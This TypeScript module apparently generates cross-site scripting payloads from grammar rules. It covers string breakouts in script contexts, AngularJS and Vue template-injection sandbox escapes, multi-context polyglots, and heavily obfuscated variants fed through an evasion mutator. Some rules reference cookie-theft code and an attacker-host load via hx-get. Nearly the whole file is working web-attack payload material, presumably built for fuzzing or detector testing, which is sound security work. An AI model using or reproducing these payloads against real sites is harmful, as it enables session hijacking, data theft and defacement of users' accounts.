/** Payloads of script contexts: out of a string, into a template, into a framework, and several contexts at once. */
import {
  bound,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  weighted,
  words,
} from '../../grammar.ts';
import { hexEscapesEverywhere, unicodeEscapesEverywhere } from '../../mutators/escapes.ts';
import { evade } from '../../mutators/evade.ts';
import { sometimes } from '../../mutators/mutator.ts';
import { ATTACKER_HOST, MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE, WORD } from '../plausible-values.ts';
import { ELEMENT_WITH_HANDLER, HANDLER } from './handlers.ts';
import { BREAK_OUT, delivered } from './markup.ts';
import { CALL, HIDDEN_CALL, SCRIPT, SHOWN, SYMBOL_CODE, THEFT } from './script.ts';

/** Out of a string in a script: `';alert(1)//`. */
export const scriptBreakOut: Rule = delivered(
  weighted(
    [
      5,
      bound(
        words(`' " ' " \``),
        (quote) =>
          text`${maybe(PLAUSIBLE_VALUE, 0.4)}${quote}${oneOf(';', '-', '+', ');', '});', '*', ',', '}', '];', '^', '||', '&&', '?', ';\n', '}});')}${SCRIPT}${oneOf('//', text`-${quote}`, text`+${quote}`, text`;${quote}`, ';//', '<!--', text`;//${quote}`, text`||${quote}`, '/*', text`;var ${characters(LOWER_CASE, 1)}=${quote}`)}`,
      ),
    ],
    [1, text`\\${words(`' "`)};${SCRIPT}//`],
    [1, text`\${${SCRIPT}}`],
    [1, text`\`-${SCRIPT}-\``],
    [1, text`</script><script>${SCRIPT}</script>`],
    [1, text`</script><${ELEMENT_WITH_HANDLER}=${CALL}>`],
    [1, text`${words('\\u2028 %0a */ %0d%0a')}${SCRIPT}${oneOf('//', '/*', '')}`],
    [1, text`*/${SCRIPT}/*`],
    [0.6, bound(words(`' "`), (quote) => text`${quote}in ${CALL} in${quote}`)],
    [0.6, text`'};${SCRIPT};{'`],
    [0.6, text`function(){${SCRIPT}}()`],
  ),
);

/** Code by itself: as a callback, as a parameter that lands in a script. */
export const bareCode: Rule = delivered(
  weighted(
    [4, CALL],
    [4, HIDDEN_CALL],
    [4, THEFT],
    [1, text`;${SCRIPT};`],
    [1, text`${WORD}=${integer(0, 9)};${SCRIPT}`],
    [1, text`${HANDLER}=${SCRIPT}`],
    [1, text`<!--\n${SCRIPT}`],
    [1, text`{valueOf:${words('alert confirm prompt')}}+''`],
    [0.7, text`try{throw ${SHOWN}}catch(e){alert(e)}`],
    [0.7, text`document.getElementById('${WORD}').innerHTML='<img src=x onerror=${CALL}>'`],
  ),
);

const CONSTRUCTOR: Rule = oneOf(
  'constructor.constructor',
  "constructor['constructor']",
  "['constructor']['constructor']",
  '$on.constructor',
  '$eval.constructor',
  'toString.constructor',
  "'a'.sub.call.call({}[$='constructor'].getOwnPropertyDescriptor('a'.sub.__proto__,$).value,0,'alert(1)')",
  '_c.constructor',
  '$emit.constructor',
  '_openBlock.constructor',
);

/** Expressions of browser frameworks that end in a script: AngularJS, Vue and their like. */
export const frameworkTemplate: Rule = delivered(
  weighted(
    [
      5,
      text`{{${oneOf('', WORD, "''", '$')}${maybe('.')}${CONSTRUCTOR}('${words('alert(1) alert(document.domain) prompt(1) alert(document.cookie) confirm(1)')}')()}}`,
    ],
    [2, text`<${words('div p x span')} ${words('ng-app ng-app="" data-ng-app')}>{{${CONSTRUCTOR}('${CALL}')()}}</div>`],
    [
      1,
      text`<input autofocus ng-focus="$event.${words('path composedPath()')}|orderBy:'[].constructor.from([${integer(1, 9)}],alert)'">`,
    ],
    [
      1,
      text`<${words('img div svg')} src=x ${words('@error v-on:click @click @mouseover ng-click ng-mouseover x-on:click x-init hx-on:click v-html on-error')}="${CALL}">`,
    ],
    [1, text`<div v-html="'<img src=x onerror=${CALL}>'">`],
    [1, text`{{$${words('eval on emit parent watch')}.constructor('${CALL}')()}}`],
    [1, text`{{[${integer(1, 9)}].map(${words('alert confirm prompt')})}}<script>`],
    [1, text`<div data-bind="value: ${CALL}">`],
    [1, text`<x-${characters(LOWER_CASE, 2, 5)} ${HANDLER}=${CALL}>`],
    [0.7, text`{{x=${words("'a' valueOf toString")};x.constructor.prototype.charAt=[].join;$eval('x=${CALL}')}}`],
    [0.7, text`<div hx-get="//${ATTACKER_HOST}/x" hx-trigger=load hx-on::load="${CALL}">`],
    [
      0.7,
      text`<script src=//${words('ajax.googleapis.com/ajax/libs/angularjs/1.6.0 cdnjs.cloudflare.com/ajax/libs/angular.js/1.4.6 cdn.jsdelivr.net/npm/vue@2')}/angular.min.js></script><x ng-app ng-csp>{{$eval.constructor('${CALL}')()}}`,
    ],
  ),
);

const POLYGLOT_PART: Rule = oneOf(
  text`jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )`,
  text`//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><svg onload=${CALL}>`,
  text`\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
  text`'"--></style></script><script>${CALL}</script>`,
  text`javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html "onmouseover=/*&lt;svg/*/onload=${CALL}//>`,
  text`'">><marquee><img src=x onerror=${CALL}></marquee>`,
  text`"></plaintext\\></|\\><plaintext/onmouseover=${CALL}>`,
  text`';${CALL}//';${CALL}//";${CALL}//";${CALL}//--></SCRIPT>">'><SCRIPT>${CALL}</SCRIPT>`,
  text`" onclick=${CALL}//<button ' onclick=${CALL}//> */ ${CALL}//`,
  text`-->'"/></sCript><svG x=">" onload=(${CALL})>`,
  text`'';!--"<${MARKER}>=&{()}<script>${CALL}</script>`,
);

/** Payloads for several contexts at once. */
export const polyglot: Rule = evade(repeat(POLYGLOT_PART, 1, 3));

/** Code made of symbols, and code that is escaped as a whole. */
export const obfuscated: Rule = delivered(
  weighted(
    [3, SYMBOL_CODE],
    [2, text`${BREAK_OUT}<${ELEMENT_WITH_HANDLER}=${SYMBOL_CODE}>`],
    [2, text`eval("${sometimes(1, CALL, hexEscapesEverywhere, unicodeEscapesEverywhere)}")`],
    [2, text`<script>eval(${HIDDEN_CALL})</script>`],
    [1, sometimes(1, text`<script>${CALL}</script>`, hexEscapesEverywhere, unicodeEscapesEverywhere)],
    [1, sometimes(1, text`<${ELEMENT_WITH_HANDLER}=${CALL}>`, hexEscapesEverywhere, unicodeEscapesEverywhere)],
    [
      1,
      bound(
        characters('$_', 1, 3),
        (name) =>
          text`${name}=~[];${name}={___:++${name},$$$$:(![]+"")[${name}],__$:++${name},$_$_:(![]+"")[${name}]};${name}.$(${name}.$(${name}.$$+"\\"")())()`,
      ),
    ],
    [
      1,
      text`([,ウ,,,,ア]=[]+{},[ネ,ホ,ヌ,セ,,ミ,ハ,ヘ,,,ナ]=[!!ウ]+!ウ+ウ.ウ)[ツ=ア+ウ+ナ+ヘ+ネ+ホ+ヌ+ア+ネ+ウ+ホ][ツ](ミ+ハ+セ+ホ+ネ+'(${SHOWN})')()`,
    ],
    [1, text`+ADw-script+AD4-${CALL}+ADw-/script+AD4-`],
    [1, text`¼script¾${CALL}¼/script¾`],
    [1, text`%E0%BC%BCscript%E0%BC%BE${CALL}`],
    [1, text`＜script＞${CALL}＜/script＞`],
  ),
);

/** Markup in the middle of a harmless text. */
export const insideText: Rule = delivered(
  text`${repeat(WORD, 1, 6, ' ')} ${oneOf(text`<${ELEMENT_WITH_HANDLER}=${CALL}>`, text`<script>${SCRIPT}</script>`, text`<a href="javascript:${CALL}">${WORD}</a>`)}${maybe(text` ${repeat(WORD, 1, 6, ' ')}`)}`,
);
